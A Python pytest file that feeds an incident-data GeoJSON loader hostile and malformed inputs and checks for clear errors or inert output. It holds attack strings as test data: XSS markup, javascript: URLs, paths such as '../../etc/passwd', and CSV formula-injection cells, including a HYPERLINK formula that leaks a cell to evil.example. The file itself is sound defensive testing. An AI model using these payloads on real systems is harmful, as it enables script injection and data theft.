"""Files from strangers: every file in tests/data/hostile gives its exact error or its safe result, nothing crashes,
no feature disappears silently, nothing is opened but the bytes given, and script payloads stay inert text."""

from __future__ import annotations

import csv
import io
import json
import socket
from pathlib import Path
from typing import Any

import pytest

from incidents import IncidentDataError, IncidentFilter, Problem, load_incidents, load_incidents_bytes, to_csv
from incidents.export import neutralise_formula, to_geojson
from incidents.geocheck import country_mismatch_warnings
from incidents.reader import MAX_BYTES_ENV, parse_json_bytes
from incidents.safety import escape_markdown, safe_url, script_json
from incidents.validate import check_collection

from .conftest import DATA

HOSTILE = DATA / "hostile"
FIX_SIZE = "raise the limit with INCIDENTS_MAX_FILE_MB (megabytes) or --max-size if you trust this file"
TRUNCATED = "the file looks truncated (an interrupted download or copy?)"
CONVERT = "convert it to GeoJSON first (e.g. ogr2ogr -f GeoJSON out.geojson"
UNZIP = "unzip it first"
URL_FIX = "links must start with http:// or https://"
BAD_URL = "is not an http(s) URL with a host: it"
NO_FIELD = ("is not a field of the incident format: known fields are id, title, description, category, start, end, "
            "time_precision, first_reported, place, admin1, country, location_precision, uncertainty_m, status, "
            "status_history, perpetrator, claims, casualties, sources, related, tags, provenance; name your own "
            "fields x_…")
UNKNOWN_CATEGORY = ("is not a known category (chemical_attack, airstrike, missile_strike, friendly_fire, shelling, "
                    "attack_on_medical, siege, other); it is kept and drawn with a generic symbol")
UNUSUAL_RELATION = ("is not one of the usual relations (response_to, same_event, part_of, related_to, context, "
                    "follows); kept as written")


@pytest.fixture(autouse=True)
def no_network_and_no_gdal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Loading must never open a connection, nor hand anything to GeoPandas/GDAL to open."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"tried to open something: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr("geopandas.read_file", refuse)
    monkeypatch.setattr("pyogrio.read_dataframe", refuse)


def problems(path: Path | str) -> list[tuple[int | None, str | None, str | None, str, str]]:
    with pytest.raises(IncidentDataError) as caught:
        load_incidents(path)
    return [(p.feature, p.feature_id, p.field, p.severity, p.message) for p in caught.value.problems]


def warnings(path: Path) -> list[tuple[int | None, str | None, str | None, str]]:
    dataset = load_incidents(path)
    assert all(w.severity == "warning" for w in dataset.warnings)
    return [(w.feature, w.feature_id, w.field, w.message) for w in dataset.warnings]


# -- files that are not GeoJSON at all: one problem about the file, naming what it is and how to fix it ------------

FILE_ERRORS = [
    ("empty.geojson", "is empty: expected a GeoJSON FeatureCollection"),
    ("blank.geojson", "holds only blank space: expected a GeoJSON FeatureCollection"),
    ("error-page.geojson", "looks like HTML, not GeoJSON (an error page or a download that went wrong?)"),
    ("xml.geojson", "looks like XML, not GeoJSON: was the wrong file chosen, or does it need converting?"),
    ("kml.geojson", f"looks like KML (XML), not GeoJSON: {CONVERT} in.kml)"),
    ("javascript.geojson", "looks like JavaScript (it starts with 'var incidents = {\"type\":\"Featu…'), not "
                           "GeoJSON: keep only the JSON object {\"type\": \"FeatureCollection\", …} in a .geojson "
                           "file"),
    ("csv.geojson", "is not JSON: it starts with 'id,title,longitude,latitude…'; a GeoJSON file starts with "
                    "{\"type\": \"FeatureCollection\", …"),
    ("truncated.geojson", f"ends unexpectedly at line 9, column 6: {TRUNCATED}"),
    ("truncated-in-text.geojson", f"ends inside a text value that starts at line 16, column 17: {TRUNCATED}"),
    ("trailing-comma.geojson", "has a comma before the closing '}' at line 1, column 46: JSON does not allow one; "
                               "remove it"),
    ("comment.geojson", "has a comment at line 1, column 1: JSON does not allow comments; remove it"),
    ("single-quotes.geojson", "uses single quotes at line 1, column 2: JSON needs double quotes around text and "
                              "names"),
    ("sequence.geojson", "has extra data after the JSON document at line 2, column 1 (one JSON object per line? "
                         "GeoJSON sequences are not read: put the features in one {\"type\": \"FeatureCollection\", "
                         "\"features\": [...]})"),
    ("nan.geojson", "contains NaN, which is not valid JSON: write null for a missing number (line 1, column 101)"),
    ("infinity.geojson", "contains -Infinity, which is not valid JSON: write null for a missing number (line 1, "
                         "column 223)"),
    ("overflow.geojson", "contains the number 1e999, too large for a 64-bit float (it would become infinity): write "
                         "a smaller number or null (line 1, column 223)"),
    ("long-number.geojson", "contains a number 5002 characters long (36.666666666666666666666666666…): numbers in "
                            "incident data have at most 100 characters; write it as text if it is an identifier "
                            "(line 1, column 101)"),
    ("huge-integer.geojson", "contains a number 401 characters long (100000000000000000000000000000…): numbers in "
                             "incident data have at most 100 characters; write it as text if it is an identifier "
                             "(line 1, column 229)"),
    ("duplicate-keys.geojson", "duplicate key 'status' in the object with id 'one': each key may appear once (a "
                               "second value would silently replace the first)"),
    ("lone-surrogate.geojson", "contains \\ud83d, half of a UTF-16 surrogate pair without its other half, in a text "
                               "value (a tool cut a character such as an emoji in two?): remove it or write the whole "
                               "character (line 1, column 157)"),
    ("nul.geojson", "contains a NUL character (\\u0000) in a text value: remove it, NUL is not text (line 1, column "
                    "161)"),
    ("control-character.geojson", "has a raw control character (U+0009) inside a text value at line 1, column 150: "
                                  "write it as the escape \\t or remove it"),
    ("utf16-bom.geojson", "is UTF-16-encoded; save it as UTF-8 and load it again"),
    ("utf16-no-bom.geojson", "looks UTF-16-encoded (no byte-order mark); save it as UTF-8 and load it again"),
    ("utf32-bom.geojson", "is UTF-32-encoded; save it as UTF-8 and load it again"),
    ("utf32-no-bom.geojson", "looks UTF-32-encoded (no byte-order mark); save it as UTF-8 and load it again"),
    ("latin1.geojson", "is not valid UTF-8: byte 0xE9 at line 15, column 23 cannot be read (in Latin-1/Windows-1252 "
                       "it would be 'é': the file was probably saved in that encoding); save the file as UTF-8 and "
                       "load it again"),
    ("not-an-object.geojson", "is a list, expected a GeoJSON FeatureCollection object"),
    ("zipped.zip", f"is compressed (a zip archive, holding 'incidents.geojson'): {UNZIP} and load the .geojson file "
                   "inside"),
    ("gzipped.geojson.gz", f"is compressed (gzip): {UNZIP} (gunzip) and load the .geojson file inside"),
    ("shapefile.shp", f"is an ESRI shapefile (.shp/.shx), not GeoJSON: {CONVERT} in.shp)"),
]


@pytest.mark.parametrize(("name", "message"), FILE_ERRORS)
def test_broken_files_give_one_clear_problem(name: str, message: str) -> None:
    assert problems(HOSTILE / name) == [(None, None, None, "error", message)]


def test_every_committed_hostile_file_is_tested_and_listed_in_the_readme() -> None:
    tested = {name for name, _ in FILE_ERRORS} | set(FEATURE_ERRORS) | {"utf8-bom.geojson", "swapped.geojson",
                                                                        "script-payloads.geojson"}
    files = {p.name for p in HOSTILE.iterdir() if p.name != "README.md"}
    assert files == tested
    readme = (HOSTILE / "README.md").read_text(encoding="utf-8")
    listed = {line.split("`")[1] for line in readme.splitlines() if line.startswith("| `")}
    assert listed == files


def test_utf8_byte_order_mark_is_accepted() -> None:
    dataset = load_incidents(HOSTILE / "utf8-bom.geojson")
    assert list(dataset.frame["id"]) == ["one"]
    assert dataset.warnings == ()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "is nested too deeply to be incident data (lists or objects hundreds of "
                                          "levels inside each other)"),
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "is nested too deeply to be incident data (lists or objects "
                                                     "hundreds of levels inside each other)"),
        (b'"just text"', "is the text 'just text', expected a GeoJSON FeatureCollection object"),
        (b"42", "is the number 42, expected a GeoJSON FeatureCollection object"),
        (b"null", "is null, expected a GeoJSON FeatureCollection object"),
        (b"true", "is the boolean true, expected a GeoJSON FeatureCollection object"),
        (b"PK\x05\x06" + b"\0" * 18, "is compressed (a zip archive): unzip it first and load the .geojson file inside"),
        (b"SQLite format 3\x00" + b"\0" * 84, "is an SQLite database (a GeoPackage?), not GeoJSON: convert it to "
                                              "GeoJSON first (e.g. ogr2ogr -f GeoJSON out.geojson in.gpkg)"),
        (b"%PDF-1.7\n", "is a PDF document, not GeoJSON: was the wrong file chosen?"),
        (b"\x89PNG\r\n\x1a\n\0\0", "is a PNG image, not GeoJSON: was the wrong file chosen?"),
        (b"{\x00\x00\xff\x13", "is a binary file, not GeoJSON text (it holds a NUL byte at byte 1): was the wrong file "
                               "chosen, or is it text saved as UTF-16 or UTF-32?"),
        (b'{"type": "FeatureCollection", "features": [\x85]}', "is not valid UTF-8: byte 0x85 at line 1, column 44 "
                                                               "cannot be read (in Latin-1/Windows-1252 it would be "
                                                               "'…': the file was probably saved in that encoding); "
                                                               "save the file as UTF-8 and load it again"),
        (b'{"a": 1, "b": {"x\\u001b": 1, "y": 2, "x\\u001b": 3}}', "duplicate key 'x\\x1b' in an object with keys "
                                                                 "'x\\x1b', 'y': each key may appear once (a second "
                                                                 "value would silently replace the first)"),
        (b"\x81", "is not valid UTF-8: byte 0x81 at line 1, column 1 cannot be read; save the file as UTF-8 and load "
                  "it again"),
    ],
)
def test_bytes_given_directly(data: bytes, message: str) -> None:
    with pytest.raises(IncidentDataError) as caught:
        load_incidents_bytes(data, name="upload")
    assert [(p.file, p.message) for p in caught.value.problems] == [("upload", message)]


@pytest.mark.parametrize(
    "text",
    [
        '{"title": "\\\\ud800 is an escaped backslash and text, not a surrogate"}',
        '{"title": "\\\\u0000 is not NUL either"}',
        '{"title": "an emoji written as a pair: \\ud83d\\ude00"}',
        '{"title": "a 100-digit number is fine", "x": ' + "9" * 100 + "}",
        '{"title": "Infinity and NaN in text are fine", "e": "1e999"}',
        '{"title": "small exponents are fine", "x": 1e-400, "y": 1.5e300}',
    ],
)
def test_strict_reader_accepts_what_only_looks_suspicious(text: str) -> None:
    document = parse_json_bytes(text.encode(), name="x")
    assert document == json.loads(text)


# -- size: checked before anything is parsed -------------------------------------------------------------------

def test_size_cap_as_an_argument_is_checked_before_parsing() -> None:
    garbage = b"\x00not json at all" * 140_000  # 2.1 MB that would fail parsing in another way
    with pytest.raises(IncidentDataError) as caught:
        load_incidents_bytes(garbage, name="upload.geojson", max_bytes=1024 * 1024)
    assert [p.message for p in caught.value.problems] == [f"is 2.1 MB, above the 1.0 MB limit; {FIX_SIZE}"]


def test_size_cap_from_the_environment_applies_to_files_and_uploads(monkeypatch: pytest.MonkeyPatch,
                                                                    tmp_path: Path) -> None:
    big = tmp_path / "big.geojson"
    big.write_bytes(b" " * (3 * 1024 * 1024))
    monkeypatch.setenv(MAX_BYTES_ENV, "2.5")
    for load in (lambda: load_incidents(big), lambda: load_incidents_bytes(big.read_bytes(), name=str(big))):
        with pytest.raises(IncidentDataError) as caught:
            load()
        assert [str(p) for p in caught.value.problems] == [f"{big}: is 3.0 MB, above the 2.5 MB limit; {FIX_SIZE}"]
    monkeypatch.setenv(MAX_BYTES_ENV, "4")
    with pytest.raises(IncidentDataError, match="holds only blank space"):
        load_incidents(big)


@pytest.mark.parametrize("value", ["lots", "-1", "0", "nan", "inf", "1e999"])
def test_size_cap_setting_must_be_a_positive_number(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.setenv(MAX_BYTES_ENV, value)
    with pytest.raises(IncidentDataError) as caught:
        load_incidents_bytes(b"{}", name="x")
    assert [str(p) for p in caught.value.problems] == [
        f"INCIDENTS_MAX_FILE_MB: {value!r} is not a positive number of megabytes, e.g. INCIDENTS_MAX_FILE_MB=500"]


def test_a_device_or_fifo_posing_as_a_file_is_not_read(tmp_path: Path) -> None:
    link = tmp_path / "endless.geojson"
    link.symlink_to("/dev/zero")
    assert problems(link) == [(None, None, None, "error", "is not a regular file")]


# -- paths and names that look like URLs ------------------------------------------------------------------------

@pytest.mark.parametrize(
    "path",
    ["https://evil.example/x.geojson", "HTTP://evil.example/x.geojson", "ftp://evil.example/x.geojson",
     "file:///etc/passwd", "s3://bucket/x.geojson", "/vsicurl/https://evil.example/x.geojson",
     "/vsizip//tmp/x.zip/x.geojson", "/vsis3/bucket/x.geojson"],
)
def test_url_and_gdal_virtual_paths_are_refused(path: str) -> None:
    assert problems(path) == [(None, None, None, "error",
                               "is a URL or remote path: download the file and open the local copy")]


VALID = json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "id": "one", "geometry": None,
                    "properties": {"title": "T", "category": "airstrike", "start": "2017-04-04", "status": "claimed",
                                   "sources": [{"title": "S"}]}}]}).encode()


@pytest.mark.parametrize(
    "name",
    ["https://evil.example/x.geojson", "/vsicurl/https://evil.example/x.geojson", "<img src=x onerror=alert(1)>.json",
     "../../etc/passwd"],
)
def test_an_upload_name_only_labels_the_data(name: str) -> None:
    dataset = load_incidents_bytes(VALID, name=name)
    assert list(dataset.frame["id"]) == ["one"]
    assert [f.name for f in dataset.files] == [name]


def test_a_local_file_named_like_a_url_or_markup_is_just_a_local_file(tmp_path: Path) -> None:
    folder = tmp_path / "https:" / "evil.example"
    folder.mkdir(parents=True)
    odd = folder / "<img src=x onerror=alert(1)>.geojson"
    odd.write_bytes(VALID)
    assert list(load_incidents(odd).frame["file"]) == [str(odd)]
    odd.write_bytes(b"<html>")
    # the name comes back in the message: it is untrusted text for whoever shows it
    assert problems(odd) == [(None, None, None, "error",
                              "looks like HTML, not GeoJSON (an error page or a download that went wrong?)")]


# -- features: each one loads or is reported ------------------------------------------------------------------

FEATURE_ERRORS: dict[str, list[tuple[int | None, str | None, str | None, str, str]]] = {
    "string-coordinates.geojson": [
        (1, "text-pair", "geometry.coordinates", "error", "is '36.6,35.4', expected a position [longitude, latitude] "
                                                          "(numbers in a list, not text: [36.6, 35.4])"),
        (2, "text-numbers", "geometry.coordinates", "error", "longitude '36.6' is not a number (write it without "
                                                             "quotes: 36.6)"),
    ],
    # the per-field limit on listed problems once hid this error, and the incident loaded without a location
    "string-coordinates-after-warnings.geojson": [
        *[(1, "hidden", f"geometry.{m}", "warning", "is not part of a GeoJSON geometry and is not kept")
          for m in "abcd"],
        (1, "hidden", "geometry.e", "warning", "is not part of a GeoJSON geometry and is not kept (further problems "
                                               "in this field not listed)"),
        (1, "hidden", "geometry.coordinates", "error", "is '36.6,35.4', expected a position [longitude, latitude] "
                                                       "(numbers in a list, not text: [36.6, 35.4])"),
    ],
    "non-feature-members.geojson": [
        (2, None, None, "error", "is the text 'a string', expected a GeoJSON Feature object"),
        (3, None, None, "error", "is null, expected a GeoJSON Feature object"),
        (4, None, None, "error", "is the number 42, expected a GeoJSON Feature object"),
        (5, None, None, "error", "is a list, expected a GeoJSON Feature object"),
        (6, None, None, "error", 'is a bare Point geometry, not a Feature: wrap it as {"type": "Feature", '
                                 '"geometry": {…}, "properties": {…}}'),
        (7, None, None, "error", "is a FeatureCollection inside the features list: put its features in this list "
                                 "instead"),
    ],
    "wrong-depth.geojson": [
        (1, "point-too-deep", "geometry.coordinates", "error", "[[36.6, 35.4]] is nested 2 levels deep, but Point "
                                                               "coordinates are nested 1 level: [lon, lat]"),
        (2, "line-too-shallow", "geometry.coordinates", "error", "[36.6, 35.4] is nested 1 level deep, but LineString "
                                                                 "coordinates are nested 2 levels: [[lon, lat], …]"),
        (3, "polygon-too-shallow", "geometry.coordinates", "error", "[[36, 35], [37, 35], [37, 36], [36, 35]] is "
                                                                    "nested 2 levels deep, but Polygon coordinates are "
                                                                    "nested 3 levels: [[[lon, lat], …], …]"),
    ],
    "properties-not-object.geojson": [
        (1, "list", "properties", "error", "is a list, expected an object with at least title, category, start, "
                                           "status, sources"),
        (2, "null", "properties", "error", "is null, expected an object with at least title, category, start, "
                                           "status, sources"),
        (3, "text", "properties", "error", "is the text 'title=T', expected an object with at least title, category, "
                                           "start, status, sources"),
    ],
    "coordinates-out-of-range.geojson": [
        (1, "lat95", "geometry.coordinates", "error", "latitude 95 is outside -90…90 (are longitude and latitude "
                                                      "swapped?)"),
        (2, "lat-minus-91", "geometry.coordinates", "error", "latitude -91 is outside -90…90 (are longitude and "
                                                             "latitude swapped?)"),
        (3, "lon200", "geometry.coordinates", "error", "longitude 200 is outside -180…180"),
        (4, "lon-181-lat-91", "geometry.coordinates", "error", "longitude -181 is outside -180…180"),
        (4, "lon-181-lat-91", "geometry.coordinates", "error", "latitude 91 is outside -90…90"),
    ],
    "deep-extension.geojson": [(1, "one", "x_deep", "error", "is nested more than 60 levels deep")],
    "unsafe-urls.geojson": [
        (i + 1, f"url-{i}", "sources[0].url", "error", f"{shown} {BAD_URL} {reason}")
        for i, (shown, reason) in enumerate([
            ("'javascript:window.__pwned=1'", f"uses the scheme 'javascript': {URL_FIX}"),
            ("'JaVaScRiPt:window.__pwned=1'", f"uses the scheme 'javascript': {URL_FIX}"),
            ("'java\\tscript:window.__pwned=1'", "contains the control character U+0009 at position 5"),
            ("'data:text/html,<script>window.__pwned=1</script>'", f"uses the scheme 'data': {URL_FIX}"),
            ("'file:///etc/passwd'", f"uses the scheme 'file': {URL_FIX}"),
            ("'//evil.example/x'", "has no scheme: write it in full, starting with https://"),
            ("'https://trusted.example@evil.example/'", "has a user name or password before '@' (a way to disguise "
                                                        "the real host): remove it"),
            ("'https://evil.example\\\\@trusted.example/'", "contains a backslash at position 21, which browsers "
                                                            "read as '/'"),
            ("'https://trusted.example/\\u202egnp.exe'", "contains the invisible formatting character U+202E "
                                                         "(RIGHT-TO-LEFT OVERRIDE) at position 25"),
            ("' https://trusted.example/'", "contains a blank at position 1: write spaces as %20"),
            ("'vbscript:msgbox(1)'", f"uses the scheme 'vbscript': {URL_FIX}"),
            ("'https:evil.example'", "must start with https:// followed by the host"),
            ("'https://trusted.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…", "is 2124 characters long, more than the "
                                                                             "2048 accepted for a link"),
            ("'https://tru\\u200bsted.example/'", "contains the invisible formatting character U+200B (ZERO WIDTH "
                                                  "SPACE) at position 12"),
            ("'https://%65vil.example/'", "has the host '%65vil.example', with characters a host name cannot have"),
            ("'http://'", "has no host"),
            ("'https://trusted.example:99999/'", "has an invalid port"),
        ])
    ],
    # messages repeat the bad value (and the field name): whoever shows them must escape them
    "payload-errors.geojson": [
        (1, "keys", "<img src=x onerror=window.__pwned=1>", "error", NO_FIELD),
        (1, "keys", "status", "error", "'<script>window.__pwned=1</script>' is not a status: expected one of "
                                       "verified, claimed, disputed, debunked"),
    ],
}


@pytest.mark.parametrize("name", sorted(FEATURE_ERRORS))
def test_bad_features_are_each_reported(name: str) -> None:
    assert problems(HOSTILE / name) == FEATURE_ERRORS[name]


@pytest.mark.parametrize("name", [*sorted(FEATURE_ERRORS), "script-payloads.geojson", "swapped.geojson"])
def test_every_feature_becomes_a_row_or_has_an_error(name: str) -> None:
    document = json.loads((HOSTILE / name).read_bytes())
    result = check_collection(document, file=name)
    loaded = {row.feature for row in result.rows}
    failed = {p.feature for p in result.problems if p.severity == "error"}
    assert loaded.isdisjoint(failed)
    assert loaded | failed == set(range(1, len(document["features"]) + 1))


def feature(i: int, geometry: Any) -> dict[str, Any]:
    return {"type": "Feature", "id": f"f{i}", "geometry": geometry,
            "properties": {"title": "T", "category": "airstrike", "start": "2017-04-04", "status": "claimed",
                           "sources": [{"title": "S"}]}}


def test_huge_coordinate_arrays_report_a_bounded_number_of_problems() -> None:
    line = {"type": "LineString", "coordinates": [["36.6", "35.4"]] * 20_000}
    point = {"type": "Point", "coordinates": [0] * 1_000_000}
    data = json.dumps({"type": "FeatureCollection", "features": [feature(1, line), feature(2, point)]}).encode()
    with pytest.raises(IncidentDataError) as caught:
        load_incidents_bytes(data, name="huge")
    found = [str(p) for p in caught.value.problems]
    assert found == [
        *[f"huge: feature #1 (f1): geometry.coordinates[{i}]: longitude '36.6' is not a number (write it without "
          "quotes: 36.6)" for i in range(4)],
        "huge: feature #1 (f1): geometry.coordinates[4]: longitude '36.6' is not a number (write it without quotes: "
        "36.6) (further problems in this field not listed)",
        "huge: feature #2 (f2): geometry.coordinates: is [0, 0, 0, 0, ...], expected a position [longitude, "
        "latitude]",
    ]


def test_deep_provenance_and_extension_fields_are_refused() -> None:
    item = feature(1, None)
    item["properties"]["provenance"] = {"record": json.loads("[" * 70 + "]" * 70)}
    item["properties"]["x_tree"] = json.loads('{"a":' * 61 + "1" + "}" * 61)
    with pytest.raises(IncidentDataError) as caught:
        load_incidents_bytes(json.dumps({"type": "FeatureCollection", "features": [item]}).encode(), name="deep")
    assert [str(p) for p in caught.value.problems] == [
        "deep: feature #1 (f1): provenance: is nested more than 60 levels deep",
        "deep: feature #1 (f1): x_tree: is nested more than 60 levels deep",
    ]


def test_member_names_with_control_characters_are_quoted_in_messages() -> None:
    """A terminal escape sequence or a 10 000-character name in a key must not reach a terminal or page raw."""
    item = feature(1, {"type": "Point", "coordinates": [36.6, 35.4], "\u202econtrols": 1})
    item["\x1b[31mred"] = 1
    item["properties"]["\x1b]0;title\x07"] = 1
    item["properties"]["k" * 10_000] = 1
    with pytest.raises(IncidentDataError) as caught:
        load_incidents_bytes(json.dumps({"type": "FeatureCollection", "features": [item]}).encode(), name="keys")
    assert [(p.field, p.severity) for p in caught.value.problems] == [
        ("'\\x1b[31mred'", "warning"),
        ("geometry.'\\u202econtrols'", "warning"),
        ("'\\x1b]0;title\\x07'", "error"),
        ("'" + "k" * 58 + "…", "error"),
    ]


def test_many_bad_features_are_all_reported_none_dropped() -> None:
    features = [feature(i, {"type": "Point", "coordinates": [36.6, 95 if i % 2 else 35.4]}) for i in range(2000)]
    result = check_collection({"type": "FeatureCollection", "features": features}, file="many")
    assert len(result.rows) == 1000
    assert [p.feature for p in result.problems] == list(range(2, 2001, 2))


# -- swapped coordinates and countries --------------------------------------------------------------------------

def test_points_far_outside_their_country_are_warned_about_and_kept() -> None:
    assert warnings(HOSTILE / "swapped.geojson") == [
        (1, "kyiv-swapped", "geometry", "[50.4501, 30.5234] lies about 2020 km outside Ukraine (UA), the incident's "
                                        "country (are longitude and latitude swapped? [30.5234, 50.4501] would fall "
                                        "in Ukraine)"),
        (3, "wrong-country", "geometry", "[36.6, 35.4] lies about 2450 km outside France (FR), the incident's country; "
                                         "check the coordinates and the country"),
    ]
    assert len(load_incidents(HOSTILE / "swapped.geojson")) == 3


def located(country: str | None, geometry: dict[str, Any] | None, i: int = 0) -> dict[str, Any]:
    item = feature(i, geometry)
    if country is not None:
        item["properties"]["country"] = country
    return item


def point(lon: float, lat: float, *rest: float) -> dict[str, Any]:
    return {"type": "Point", "coordinates": [lon, lat, *rest]}


def test_no_country_warning_near_borders_across_the_antimeridian_or_in_areas_drawn_apart() -> None:
    cases = [
        ("FJ", point(179.9, -16.5)), ("FJ", point(-179.9, -16.5)),  # Fiji, on both sides of 180°
        ("RU", point(-179.5, 68.0)), ("RU", point(178.0, 70.0)),  # Chukotka, Wrangel Island
        ("UA", point(33.52, 44.6)), ("RU", point(33.52, 44.6)),  # Sevastopol: Natural Earth draws Crimea in Russia
        ("SO", point(44.06, 9.56)),  # Hargeisa, in Natural Earth's "Somaliland"
        ("CY", point(33.36, 35.2)), ("RS", point(21.17, 42.67)), ("CX", point(105.68, -10.48)),
        ("SY", point(35.3, 35.5)),  # at sea off Latakia, within 100 km
        ("SY", point(36.6, 35.4, 250.0)),  # with elevation
        ("SY", {"type": "LineString", "coordinates": [[36.0, 36.8], [36.5, 37.5]]}),  # crosses into Turkey
        ("SY", {"type": "Polygon", "coordinates": [[[38, 34], [39, 34], [39, 35], [38, 34]]]}),
        ("TV", point(179.2, -8.5)),  # Tuvalu: too small for the 1:50m outlines, not checked
        ("SY", None), (None, point(0, 0)),
        ("AQ", point(0.0, -89.9)),
    ]
    features = [located(country, geometry, i) for i, (country, geometry) in enumerate(cases)]
    data = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    assert load_incidents_bytes(data, name="borders").warnings == ()


def test_the_country_check_works_on_a_frame_and_takes_a_threshold(tmp_path: Path) -> None:
    dataset = load_incidents(HOSTILE / "swapped.geojson")
    assert country_mismatch_warnings(dataset.frame) == list(dataset.warnings)
    near_turkey = json.dumps({"type": "FeatureCollection", "features": [located("SY", point(37.0, 38.2))]})
    rows = check_collection(json.loads(near_turkey), file="near").rows
    assert [p.message for p in country_mismatch_warnings(rows)] == [
        "[37, 38.2] lies about 160 km outside Syria (SY), the incident's country (are longitude and latitude swapped? "
        "[38.2, 37] would fall near Syria)"]
    assert country_mismatch_warnings(rows, threshold_km=200) == []
    missing = tmp_path / "nowhere.geojson"
    assert [str(p) for p in country_mismatch_warnings(rows, outlines=missing)] == [
        f"near: the country check was skipped: the outlines {missing} cannot be read ([Errno 2] No such file or "
        f"directory: '{missing}'); they are committed with the repository"]


# -- a valid file full of script payloads ------------------------------------------------------------------------

PAYLOADS_FILE = HOSTILE / "script-payloads.geojson"


def all_strings(value: Any) -> list[str]:
    """Every string in ``value``, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [s for item in value for s in all_strings(item)]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in [key, *all_strings(item)]]
    return []


def test_script_payloads_load_with_warnings_only_for_unknown_codes() -> None:
    assert warnings(PAYLOADS_FILE) == [
        (1, '<img src=x onerror="window.__pwned=1;parent.__pwned=1">', "category",
         f"'\\\\\\\\`;window.__pwned=1;//' {UNKNOWN_CATEGORY}"),
        (2, "payload-01", "related[0].relation", f"'${{window.__pwned=1}}' {UNUSUAL_RELATION}"),
        (4, "payload-03", "category", f"\"' onmouseover='window.__pwned=1' data-x='\" {UNKNOWN_CATEGORY}"),
        (4, "payload-03", "related[0].relation", f"'\\\\`;window.__pwned=1;//' {UNUSUAL_RELATION}"),
        (6, "payload-05", "related[0].relation",
         f"'</script><script>window.__pwned=1;parent.__pwned=1</script… {UNUSUAL_RELATION}"),
        (7, "payload-06", "category", f"'<a href=\"javascript:window.__pwned=1\">click me</a>' {UNKNOWN_CATEGORY}"),
        (8, "payload-07", "related[0].relation", f"\"' onmouseover='window.__pwned=1' data-x='\" {UNUSUAL_RELATION}"),
        (10, "payload-09", "category", f"'\\u202egnp.exe <b>bold?</b>' {UNKNOWN_CATEGORY}"),
        (10, "payload-09", "related[0].relation",
         f"'<iframe src=\"javascript:parent.__pwned=1\"></iframe>' {UNUSUAL_RELATION}"),
        (12, "payload-11", "related[0].relation", f"'{{{{ 7*7 }}}}{{% raw %}}${{{{7*7}}}}' {UNUSUAL_RELATION}"),
    ]


def test_script_payloads_are_kept_exactly_as_written_in_every_text_field() -> None:
    dataset = load_incidents(PAYLOADS_FILE)
    original = json.loads(PAYLOADS_FILE.read_text(encoding="utf-8"))["features"]
    assert len(dataset) == len(original) == 12
    assert {f["geometry"]["type"] if f["geometry"] else None for f in original} == {"Point", "LineString", "Polygon",
                                                                                    None}
    for row, source in enumerate(original):
        assert dataset.properties(row) == source["properties"]
    exported = json.loads(to_geojson(dataset, IncidentFilter()))["features"]
    assert [f["properties"] for f in exported] == [f["properties"] for f in original]


def test_script_payloads_reach_every_field_a_popup_tooltip_legend_or_table_shows() -> None:
    features = json.loads(PAYLOADS_FILE.read_text(encoding="utf-8"))["features"]

    def hostile(text: object) -> bool:
        return isinstance(text, str) and any(mark in text for mark in ("<", "&lt;", "${", "`", "{{", "\u202e",
                                                                       "\u2028", '"', "'", "javascript:"))

    for name in ("title", "description", "place", "admin1", "perpetrator"):
        assert all(hostile(f["properties"][name]) for f in features), name
    props = [f["properties"] for f in features]
    assert sum(hostile(p["category"]) for p in props) == 4
    assert sum(hostile(p["id"]) for p in props) == 3
    assert all(hostile(p["claims"][0]["by"]) and hostile(p["claims"][0]["text"]) for p in props)
    assert all(hostile(s["title"]) and hostile(s["publisher"]) and safe_url(s["url"]) == s["url"]
               and hostile(s["url"]) for p in props for s in p["sources"])
    assert all(hostile(p["tags"][0]) and hostile(p["casualties"]["note"]) for p in props)
    assert all(hostile(h["note"]) for p in props for h in p["status_history"])
    assert all(sum(hostile(k) for k in p if k.startswith("x_")) == 4 for p in props)
    assert all(hostile(p["provenance"]["format"]) for p in props)


def test_every_string_and_key_in_the_payload_file_reaches_the_page_inert() -> None:
    strings = all_strings(json.loads(PAYLOADS_FILE.read_text(encoding="utf-8")))
    assert len(strings) > 1000
    for text in strings:
        literal = script_json(text)  # the map's data
        assert not set("<>&`$('_\u2028\u2029") & set(literal), text
        assert json.loads(literal) == text
        shown = escape_markdown(text)  # the dashboard's own elements
        assert not set("\n\r") & set(shown) and shown.count("\u202e") == shown.count("\u202c"), text


# -- CSV export: cells a spreadsheet would run as a formula ------------------------------------------------------

@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,"
                                                                   "\"Click\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("Shelling of a market", "Shelling of a market"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell: str, expected: str) -> None:
    assert neutralise_formula(cell) == expected


def test_csv_export_neutralises_formulas_in_every_text_cell() -> None:
    props = {"id": "formula", "title": "=cmd|' /C calc'!A0", "category": "airstrike", "start": "2017-04-04",
             "status": "claimed", "place": "+SUM(A1:A9)", "perpetrator": "@evil", "description": "-1+1",
             "tags": ["=1"], "claims": [{"by": "=HYPERLINK(\"https://evil.example\")", "stance": "asserts"}],
             "sources": [{"title": "\t=tab"}], "x_formula": "=2+2"}
    data = json.dumps({"type": "FeatureCollection", "features": [
